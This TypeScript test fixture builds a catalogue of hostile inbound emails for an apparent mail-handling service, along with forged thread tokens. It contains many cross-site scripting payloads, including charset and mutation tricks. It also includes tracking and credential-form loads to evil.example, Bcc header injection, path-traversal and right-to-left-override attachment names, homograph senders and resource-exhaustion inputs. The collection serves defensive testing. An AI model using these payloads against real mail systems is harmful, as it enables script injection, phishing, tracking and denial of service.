import { threadToken } from '../../../src/server/mail/thread.ts'

/** S32 of design/security.md: mails that mean harm, by what they try. */

const SENDER = 'lan@customer.example'
/** The house's secret in tests; what it seals for complaint 1 is not among the forged ones. */
export const SECRET = 'a secret for tests that is long enough'
const REAL = threadToken(SECRET, 1)

/** Tokens that nobody of ours sealed. */
const SPOOFED = [
  threadToken('another secret that is long enough', 1),
  REAL.replace(/^1-/, '2-'),
  REAL.replace(/.$/, (last) => (last === '0' ? '1' : '0')),
  REAL.slice(0, -1),
  `${REAL}0`,
  `0${REAL}`,
  REAL.replace('-', '--'),
  '1-0000000000000000',
  '1-vvvvvvvvvvvvvvvv',
  `zzzzzzzzzz-${REAL.slice(2)}`,
  `-1-${REAL.slice(2, -1)}`,
  REAL.split('').join(' '),
]

const html = (body: string) =>
  `From: <${SENDER}>\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${body}`
const nested = (levels: number) =>
  `From: <${SENDER}>\r\nMIME-Version: 1.0\r\n${Array.from({ length: levels }, (_, at) => `Content-Type: multipart/mixed; boundary=b${at}\r\n\r\n--b${at}\r\n`).join('')}`
const plain = (headers: string, body = 'x') => `From: <${SENDER}>\r\n${headers}\r\n\r\n${body}`
const mixed = (kind: string, parts: readonly string[]) =>
  `From: <${SENDER}>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/${kind}; boundary=b\r\n\r\n${parts.map((part) => `--b\r\n${part}\r\n`).join('')}--b--\r\n`

export const HOSTILE: Record<string, string> = {
  script: html('<script>alert(1)</script><p>a</p>'),
  'script in parts': html('<scr<script>ipt>alert(1)</scr</script>ipt>'),
  'event handler': html('<img src=x onerror=alert(1)><svg onload=alert(1)>'),
  'javascript link': html('<a href="javascript:alert(1)">a</a><a href=" jav&#x09;ascript:alert(1)">b</a>'),
  'data link': html('<a href="data:text/html,<script>alert(1)</script>">a</a>'),
  'vbscript link': html('<a href="vbscript:msgbox(1)">a</a>'),
  'remote picture': html('<img src="https://evil.example/pixel.gif" width=1 height=1>'),
  'picture set': html('<img srcset="https://evil.example/a 1x"><picture><source srcset=//evil.example/x></picture>'),
  'style sheet': html(
    '<style>@import url(https://evil.example/a.css)</style><link rel=stylesheet href=//evil.example/a.css>',
  ),
  'style attribute': html('<p style="background:url(https://evil.example/x)">a</p>'),
  frame: html('<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>'),
  object: html('<object data="https://evil.example/x.swf"></object><embed src=//evil.example>'),
  form: html('<form action=https://evil.example><input name=password></form>'),
  base: html('<base href="https://evil.example/"><a href="/x">a</a>'),
  refresh: html('<meta http-equiv=refresh content="0;url=https://evil.example">'),
  svg: html('<svg><script>alert(1)</script><use href="data:image/svg+xml;base64,x"/></svg>'),
  math: html('<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'),
  noscript: html('<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
  template: html('<template><script>alert(1)</script></template>'),
  comment: html('<!--[if mso]><script>alert(1)</script><![endif]--><p>a</p>'),
  'unclosed tag': html('<img src=x onerror=alert(1) '),
  'null in tag': html('<scr\0ipt>alert(1)</scr\0ipt>'),
  'background attribute': html('<body background="https://evil.example/x"><table background=//evil.example/y>'),
  video: html('<video poster=//evil.example/x src=//evil.example/y autoplay></video><audio src=//evil.example/z>'),
  'mutated mail': html('<p id="</p><script>alert(1)</script>">'),
  'many tags': html('<b>'.repeat(100_000)),
  'many attributes': html(`<p ${'a=1 '.repeat(100_000)}>x</p>`),
  'long line': html('a'.repeat(5_000_000)),
  'deep quotes': html('<blockquote>'.repeat(20_000)),
  'nested 90 levels': nested(90),
  'nested 1,000 levels': nested(1000),
  'nested 20,000 levels': nested(20_000),
  'wrong charset': plain('Content-Type: text/plain; charset=no-such-charset', 'Xin ch\u00e0o'),
  'utf-7': plain('Content-Type: text/html; charset=utf-7', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-'),
  'utf-16': plain('Content-Type: text/html; charset=utf-16', '<\0s\0c\0r\0i\0p\0t\0>'),
  'broken base64': plain('Content-Transfer-Encoding: base64', '!!!!====%%%%'),
  'endless boundary': plain(`Content-Type: multipart/mixed; boundary="${'b'.repeat(100_000)}"`),
  'no boundary': plain('Content-Type: multipart/mixed'),
  'own boundary': plain('Content-Type: multipart/mixed; boundary=""', '----\r\n----\r\n--'),
  'huge header': plain(`Subject: ${'x'.repeat(3_000_000)}`),
  'many headers': plain(Array.from({ length: 100_000 }, (_, at) => `X-${at}: 1`).join('\r\n')),
  'endless folding': plain(`Subject: a${'\r\n '.repeat(200_000)}b`),
  'encoded words': plain(`Subject: ${'=?utf-8?q?a?= '.repeat(100_000)}`),
  'many addresses': plain(`To: ${'a@b.example, '.repeat(100_000)}`),
  'groups in groups': plain(`To: ${'a:'.repeat(50_000)};`),
  'many references': plain(`References: ${'<a@b.example> '.repeat(200_000)}`),
  'header injection in a name': plain('X: 1\r\nFrom: "a\r\n Bcc: x@evil.example" <a@b.example>'),
  'two senders': plain('X: 1').replace(`From: <${SENDER}>`, 'From: a@b.example, c@d.example'),
  calendar: plain(
    'Content-Type: text/calendar; method=REQUEST',
    'BEGIN:VCALENDAR\r\nATTACH:https://evil.example\r\nEND:VCALENDAR',
  ),
  'file name': plain(
    'Content-Type: image/png; name="../../etc/passwd.png"\r\nContent-Disposition: attachment; filename="..\\\\..\\\\x.png"',
    'x',
  ),
  nothing: '',
  'not a mail': '\u0000\u0001\u0002'.repeat(1000),
  'only breaks': '\r\n'.repeat(100_000),
  'mail in mail in mail': plain(
    'MIME-Version: 1.0\r\nContent-Type: message/rfc822',
    'Content-Type: message/rfc822\r\n\r\n'.repeat(2000),
  ),
  'toggled details': html('<details open ontoggle=alert(1)><summary>a</summary></details>'),
  'focused field': html('<input autofocus onfocus=alert(1)><textarea autofocus onfocus=alert(1)></textarea>'),
  marquee: html('<marquee onstart=alert(1)>a</marquee><blink onclick=alert(1)>b</blink>'),
  'loaded body': html('<body onload=alert(1) onpageshow=alert(2)><p>a</p></body>'),
  'slash for a blank': html('<img/src=x/onerror=alert(1)//><svg/onload=alert(1)>'),
  'break in a tag': html('<img\nsrc=x\nonerror\n=\nalert(1)><a\thref=\tjavascript:alert(1)>a</a>'),
  'backtick attribute': html('<img src=`x` onerror=`alert(1)`><p title="`onmouseover=alert(1)">a</p>'),
  'half a comment': html('<!--><script>alert(1)</script>--><!-- --!><img src=x onerror=alert(1)>'),
  'data island': html(
    '<xml id=a><i><b>&lt;img src=x onerror=alert(1)&gt;</b></i></xml><![CDATA[<script>alert(1)</script>]]>',
  ),
  'encoded twice': html('&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;&lt;script&gt;alert(1)&lt;/script&gt;'),
  'link in drawings': html(
    '<svg><a xlink:href="javascript:alert(1)"><text x=9 y=9>a</text></a><animate attributeName=href to=javascript:alert(1)></svg>',
  ),
  'foreign object': html('<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>'),
  'link with a ping': html('<a href="https://evil.example" ping="https://evil.example/ping" download>a</a>'),
  'link that waits': html(
    '<link rel=prefetch href=//evil.example/a><link rel=preconnect href=//evil.example><link rel=dns-prefetch href=//evil.example>',
  ),
  'button elsewhere': html(
    '<button formaction="javascript:alert(1)">a</button><input type=image src=//evil.example/a>',
  ),
  'map of areas': html('<map><area href="javascript:alert(1)" shape=default></map>'),
  'script by file': html(
    '<a href="file:///etc/passwd">a</a><a href="\\\\\\\\evil.example\\\\share">b</a><img src=file:///etc/passwd>',
  ),
  'script by blob': html('<a href="blob:https://office.chain.example/1">a</a><a href="filesystem:https://x">b</a>'),
  'intent of a phone': html(
    '<a href="intent://evil.example#Intent;scheme=http;end">a</a><a href="ms-office:ofe|u|https://evil.example/a.docx">b</a>',
  ),
  'expression in style': html('<p style="width:expression(alert(1));behavior:url(//evil.example/a.htc)">a</p>'),
  'font from elsewhere': html(
    '<style>@font-face{font-family:a;src:url(//evil.example/f)}p{font-family:a}</style><p>a</p>',
  ),
  'pictures by style': html(
    '<ul style="list-style-image:url(//evil.example/a)"><li style="cursor:url(//evil.example/c),auto">a</ul>',
  ),
  'video track': html('<video><track src=//evil.example/t default><source src=//evil.example/v></video>'),
  'applet and layer': html(
    '<applet code=x archive=//evil.example/a.jar></applet><layer src=//evil.example></layer><bgsound src=//evil.example/a>',
  ),
  'picture of the mail itself': html('<img src="cid:a@b" onload=alert(1)><img src="mhtml:https://evil.example/a!x">'),
  'script in a title': html('<p title="<script>alert(1)</script>" data-x="\'><img src=x onerror=alert(1)>">a</p>'),
  'mention that is none': html('<span class="mention" data-mention="1 onclick=alert(1)" onclick=alert(1)>@a</span>'),
  'words beside words': html('<plaintext><script>alert(1)</script><xmp><img src=x onerror=alert(1)></xmp>'),
  'select that ends': html(
    '<select><template><img src=x onerror=alert(1)></template></select><noembed><img src=x onerror=alert(1)></noembed>',
  ),
  'meta policy': html(
    '<meta http-equiv="Content-Security-Policy" content="default-src *"><meta http-equiv="set-cookie" content="a=b">',
  ),
  'uppercase and zeros': html(
    '<SCRIPT\0>alert(1)</SCRIPT><A HREF="JaVaScRiPt:alert(1)">a</A><IMG SRC=x OnErRoR=alert(1)>',
  ),
  'many links': html('<a href="https://evil.example/1">a</a>'.repeat(20_000)),
  'many entities': html('&lt;'.repeat(300_000)),
  'half a quote': html('<p class="'.repeat(20_000)),
  'table in tables': html('<table><tr><td>'.repeat(5_000)),
  'script behind base64': plain(
    'MIME-Version: 1.0\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: base64',
    Buffer.from('<img src=x onerror=alert(1)>').toString('base64'),
  ),
  'script behind quoted-printable': plain(
    'MIME-Version: 1.0\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: quoted-printable',
    '=3Cscript=3Ealert(1)=3C/script=3E=\r\n=3Cimg src=3Dx onerror=3Dalert(1)=3E=ZZ=',
  ),
  'two types': plain('Content-Type: text/plain\r\nContent-Type: text/html', '<script>alert(1)</script>'),
  'type with a script': plain(
    'MIME-Version: 1.0\r\nContent-Type: text/html; charset="><script>alert(1)</script>"',
    '<p>a</p>',
  ),
  'harmless words, harmful page': mixed('alternative', [
    'Content-Type: text/plain\r\n\r\nChào',
    'Content-Type: text/html\r\n\r\n<img src=//evil.example/p onerror=alert(1)>',
  ]),
  'five hundred versions': mixed(
    'alternative',
    Array.from({ length: 500 }, (_, at) => `Content-Type: text/html\r\n\r\n<b onclick=alert(${at})>${at}</b>`),
  ),
  'two thousand pictures': mixed(
    'mixed',
    Array.from(
      { length: 2000 },
      (_, at) => `Content-Type: image/png; name="${at}.png"\r\nContent-Transfer-Encoding: base64\r\n\r\niVBORw0KGgo=`,
    ),
  ),
  'boundary within a boundary': mixed('mixed', [
    'Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nx',
    'Content-Type: multipart/mixed; boundary=b--\r\n\r\n--b--\r\n',
  ]),
  'part from elsewhere': plain(
    'Content-Type: message/external-body; access-type=URL; URL="https://evil.example/a"',
    'Content-Type: text/html\r\n\r\n',
  ),
  'part of a whole': plain('Content-Type: message/partial; id="a@b"; number=1; total=9999', 'x'),
  'page as a file': mixed('mixed', [
    'Content-Type: text/html; name="a.html"\r\nContent-Disposition: attachment; filename="a.html"\r\n\r\n<script>alert(1)</script>',
  ]),
  'drawing as a file': mixed('mixed', [
    'Content-Type: image/svg+xml; name="a.svg"\r\n\r\n<svg onload=alert(1)><image href="//evil.example/a"/></svg>',
  ]),
  'page under a picture’s name': mixed('mixed', [
    'Content-Type: text/html; name="a.png"\r\nContent-Disposition: inline; filename="a.png"\r\n\r\n<script>alert(1)</script>',
  ]),
  'name of ten thousand letters': mixed('mixed', [
    `Content-Type: image/png; name="${'a'.repeat(10_000)}.png"\r\n\r\nx`,
  ]),
  'name that turns round': mixed('mixed', [
    'Content-Type: image/png; name="anh\u202Egpj.exe"\r\n\r\nx',
    "Content-Type: image/png; name*=utf-8''%2e%2e%2f%2e%2e%2fa%00.png\r\n\r\nx",
  ]),
  'name in a thousand pieces': mixed('mixed', [
    `Content-Type: image/png;${Array.from({ length: 1000 }, (_, at) => `\r\n name*${at}="..\\\\"`).join(';')}\r\n\r\nx`,
  ]),
  'packed for one mail program': mixed('mixed', [
    'Content-Type: application/ms-tnef; name="winmail.dat"\r\nContent-Transfer-Encoding: base64\r\n\r\neJ8+IgEAAAAAAAAA',
  ]),
  'files in the words': plain('Content-Type: text/plain', 'begin 644 ../../x.png\r\n#86)C\r\n`\r\nend\r\n'),
  'calendar that rings': mixed('alternative', [
    'Content-Type: text/calendar; method=REQUEST\r\n\r\nBEGIN:VCALENDAR\r\nBEGIN:VALARM\r\nATTACH;VALUE=URI:https://evil.example/a\r\nEND:VALARM\r\nEND:VCALENDAR',
  ]),
  'card of a person': mixed('mixed', [
    'Content-Type: text/vcard\r\n\r\nBEGIN:VCARD\r\nPHOTO;VALUE=uri:https://evil.example/p\r\nEND:VCARD',
  ]),
  'wish for a receipt': plain(
    `Disposition-Notification-To: evil@evil.example\r\nReturn-Receipt-To: evil@evil.example\r\nX-Confirm-Reading-To: evil@evil.example`,
  ),
  'forged report': plain(
    'MIME-Version: 1.0\r\nContent-Type: multipart/report; boundary=b',
    `--b\r\n\r\nx\r\n--b\r\nContent-Type: message/delivery-status\r\n\r\nAction: failed\r\nStatus: 5.1.1\r\nDiagnostic-Code: smtp; <script>alert(1)</script>\r\n--b\r\nContent-Type: message/rfc822\r\n\r\nMessage-ID: <${'a'.repeat(5000)}@x>\r\n--b--`,
  ),
  'utf-8 written too long': plain(
    'Content-Type: text/html; charset=utf-8',
    '\xC0\xBCscript\xC0\xBEalert(1)\xC0\xBC/script\xC0\xBE\xE0\x80\xBCimg src=x onerror=alert(1)\xE0\x80\xBE',
  ),
  'utf-16 without a mark': plain('Content-Type: text/html; charset=utf-16be', '\0<\0s\0c\0r\0i\0p\0t\0>\0a'),
  'utf-32': plain('Content-Type: text/html; charset=utf-32', '<\0\0\0s\0\0\0>\0\0\0'),
  'shifting letters': plain(
    'Content-Type: text/html; charset=iso-2022-kr',
    '\x1B$)C\x0E<script>alert(1)</script>\x0F<script>alert(1)</script>',
  ),
  'swallowed quote': plain('Content-Type: text/html; charset=shift_jis', '<p title="\x82" onclick=alert(1) x="">a</p>'),
  'letters of one’s own': plain(
    'Content-Type: text/html; charset=x-user-defined',
    '\xBCscript\xBEalert(1)\xBC/script\xBE',
  ),
  'null in headers': plain('Subject: a\0b\0<script>alert(1)</script>\r\nX\0Y: 1'),
  'subject that turns round': plain(
    `Subject: =?utf-8?b?${Buffer.from('\u202Eexe.gpj\u2066<script>\u0007').toString('base64')}?=`,
  ),
  'name that is an address': plain('X: 1').replace(
    `From: <${SENDER}>`,
    'From: "care@chain.example" <evil@evil.example>',
  ),
  'sender in a group': plain('X: 1').replace(`From: <${SENDER}>`, 'From: undisclosed: a@b.example, <c@d.example>;'),
  'sender without an address': plain('X: 1').replace(`From: <${SENDER}>`, 'From: <>\r\nSender: evil@evil.example'),
  'sender of another alphabet': plain('X: 1').replace(`From: <${SENDER}>`, 'From: <l\u0430n@customer.example>'),
  'endless Message-ID': plain(`Message-ID: <${'a'.repeat(1_000_000)}@x.example>`),
  'Message-ID of two lines': plain('Message-ID: <a@b.example>\r\n <c@d.example>\r\n\tBcc: x@evil.example'),
  'date of another age': plain('Date: Fri, 99 Foo 99999 99:99:99 +9999'),
  ...Object.fromEntries(
    SPOOFED.map((token, at): [string, string] => [
      `forged thread ${at + 1}`,
      plain(
        `Subject: Re: [2611-000001 ${token}]\r\nTo: care+${token}@chain.example\r\nIn-Reply-To: <${token}.ab@chain.example>\r\nReferences: <${token}@x> <x.${token}@y>`,
      ),
    ]),
  ),
}
